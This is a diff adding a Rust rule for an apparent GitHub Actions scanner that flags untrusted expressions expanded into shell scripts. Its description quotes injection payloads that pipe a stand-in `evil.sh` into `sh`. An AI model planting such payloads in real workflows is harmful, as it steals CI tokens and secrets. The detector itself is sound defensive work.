@@ -1,0 +1,206 @@
+//! FG-002: attacker-controlled expressions expanded into `run:` scripts.
+
+use sluice_pack_sdk::expr::{self, ContextRef};
+use sluice_pack_sdk::{Confidence, Finding, RuleMeta, Severity};
+
+use super::FileContext;
+use crate::contexts::{self, Tainted, Tier};
+use crate::model::{Definition, Job, Step, Text, Workflow};
+
+pub const META: RuleMeta = RuleMeta {
+    id: "FG-002",
+    name: "script-injection",
+    title: "Script injection: attacker-controlled expression expanded into a shell script",
+    default_severity: Severity::High,
+    default_confidence: Confidence::High,
+    description: "GitHub expands `${{ … }}` expressions into a `run:` script *before* the shell \
+        sees it, so text from an issue title, a pull request body, a branch name or a commit \
+        message becomes shell code: a title like `a\"; curl evil.sh | sh; \"` or \
+        `$(curl evil.sh | sh)` runs with the job's token and secrets. This applies to \
+        workflow steps and to the steps of composite actions.\n\n\
+        Quoting does not help (the attacker closes the quote), and neither does `echo`: \
+        `echo \"${{ github.event.issue.title }}\"` runs any `$(…)` in the title. So echo, \
+        printf and quoted uses keep the full severity; only comparisons and \
+        `contains`/`startsWith`/`endsWith` results (booleans) are not reported. \
+        Indirection through an environment variable (`env: TITLE: ${{ … }}` then \
+        `\"$TITLE\"`) is safe and not reported.\n\n\
+        Severity: High for text anyone can write (issue, pull request, comment, review, \
+        discussion and wiki fields, branch names, commit messages and authors, \
+        `toJSON(github.event)`); Medium for `inputs.*`, `github.event.inputs.*` and \
+        `client_payload`, which only whoever can trigger the workflow (or a calling \
+        workflow that forwards untrusted data) controls — boolean, number and choice inputs \
+        are not reported. Confidence is Low when none of the workflow's triggers fills the \
+        context (for example an issue title in a `push`-only workflow).",
+    remediation: "Pass the value through an environment variable and quote it in the script:\n\n\
+        ```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```",
+    help_uri: "",
+    tags: &["injection"],
+};
+
+pub fn check(file: &FileContext<'_, '_>, findings: &mut Vec<Finding>) {
+    let workflow = file.definition.as_workflow();
+    for (job, steps) in file.definition.step_groups() {
+        for step in steps {
+            if let Some(run) = step.run {
+                check_script(file, workflow, job, step, run, findings);
+            }
+        }
+    }
+}
+
+/// The strongest tainted reference of one expression.
+struct Source {
+    path: String,
+    tier: Tier,
+    /// Every tainted context the reference covers (several for `toJSON(github.event)`).
+    tainted: Vec<&'static Tainted>,
+    /// Serialised whole rather than a single field.
+    dumped: bool,
+}
+
+fn check_script(
+    file: &FileContext<'_, '_>,
+    workflow: Option<&Workflow<'_>>,
+    job: Option<&Job<'_>>,
+    step: &Step<'_>,
+    run: Text<'_>,
+    findings: &mut Vec<Finding>,
+) {
+    let mut seen: Vec<String> = Vec::new();
+    for expression in expr::find_expressions(run.value) {
+        let Some(source) = strongest_source(expression.text, workflow) else {
+            continue;
+        };
+        let normalised: String = expression
+            .text
+            .split_whitespace()
+            .collect::<Vec<_>>()
+            .join(" ");
+        let occurrence = seen.iter().filter(|e| **e == normalised).count();
+        seen.push(normalised.clone());
+        let mut key = format!("{}|{normalised}", run.route());
+        if occurrence > 0 {
+            // The same expression twice in one script: both are findings, and each needs its
+            // own identity for baselines.
+            key.push_str(&format!("#{}", occurrence + 1));
+        }
+
+        let reachable = source
+            .tainted
+            .iter()
+            .any(|t| is_reachable(t, file.definition, workflow));
+        let (severity, confidence, who) = match source.tier {
+            Tier::Anyone => (
+                Severity::High,
+                if reachable {
+                    Confidence::High
+                } else {
+                    Confidence::Low
+                },
+                "attacker-controlled",
+            ),
+            Tier::TriggerAccess => (
+                Severity::Medium,
+                if reachable {
+                    Confidence::Medium
+                } else {
+                    Confidence::Low
+                },
+                "caller-controlled",
+            ),
+        };
+        let place = match job {
+            Some(job) => format!("step `{}` of job `{}`", step.label(), job.id.value),
+            None => format!("step `{}`", step.label()),
+        };
+        let what = if source.dumped {
+            format!("`{}`, which contains {who} text,", source.path)
+        } else {
+            format!("{who} `{}`", source.path)
+        };
+        let mut message = format!(
+            "`${{{{ {} }}}}` expands {what} into the `run:` script of {place}",
+            expression.text
+        );
+        if source.tier == Tier::TriggerAccess {
+            message.push_str(" (whoever can trigger the workflow or call it chooses the value)");
+        }
+        if !reachable {
+            message.push_str(" (no trigger of this workflow sets it)");
+        }
+        let mut finding = Finding::new(&META, file.path, run.span_of(expression.range.clone()))
+            .severity(severity)
+            .confidence(confidence)
+            .message(message)
+            .fingerprint_key(key);
+        if let Some(job) = job {
+            finding = finding.property("job", job.id.value);
+        }
+        findings.push(
+            finding
+                .property("step", step.label())
+                .property("context", source.path),
+        );
+    }
+}
+
+/// The most dangerous tainted context an expression's text result carries, if any.
+fn strongest_source(expression: &str, workflow: Option<&Workflow<'_>>) -> Option<Source> {
+    expr::context_refs(expression)
+        .iter()
+        .filter(|r| contexts::is_text_position(expression, r))
+        .filter(|r| !is_non_text_input(r, workflow))
+        .filter_map(|reference| {
+            let dumped = contexts::is_dumped(expression, reference);
+            let tainted = contexts::tainted(&reference.path, dumped);
+            let tier = tainted.iter().map(|t| t.tier).max()?;
+            // A dump names a parent object; a field that is itself tainted is not a dump.
+            let whole = dumped
+                && tainted
+                    .iter()
+                    .all(|t| t.path.split('.').count() > reference.path.split('.').count());
+            Some(Source {
+                path: reference.path.clone(),
+                tier,
+                tainted,
+                dumped: whole,
+            })
+        })
+        .max_by_key(|source| source.tier)
+}
+
+/// `inputs.x` declared as `boolean`, `number`, `choice` or `environment`: GitHub validates
+/// those, so they cannot carry shell code.
+fn is_non_text_input(reference: &ContextRef, workflow: Option<&Workflow<'_>>) -> bool {
+    let path = reference.path.to_ascii_lowercase();
+    let name = path
+        .strip_prefix("inputs.")
+        .or_else(|| path.strip_prefix("github.event.inputs."));
+    let (Some(name), Some(workflow)) = (name, workflow) else {
+        return false;
+    };
+    workflow
+        .triggers
+        .input(name)
+        .and_then(|input| input.kind())
+        .is_some_and(|kind| matches!(kind.trim(), "boolean" | "number" | "choice" | "environment"))
+}
+
+/// Whether some trigger of the workflow fills the context. Reusable workflows and composite
+/// actions run for whatever event their caller had, so they always may.
+fn is_reachable(
+    tainted: &Tainted,
+    definition: &Definition<'_>,
+    workflow: Option<&Workflow<'_>>,
+) -> bool {
+    let Some(workflow) = workflow else {
+        return matches!(definition, Definition::Action(_));
+    };
+    if tainted.events.is_empty() || workflow.triggers.events.is_empty() {
+        return true;
+    }
+    workflow
+        .triggers
+        .names()
+        .any(|name| name == "workflow_call" || tainted.events.contains(&name))
+}
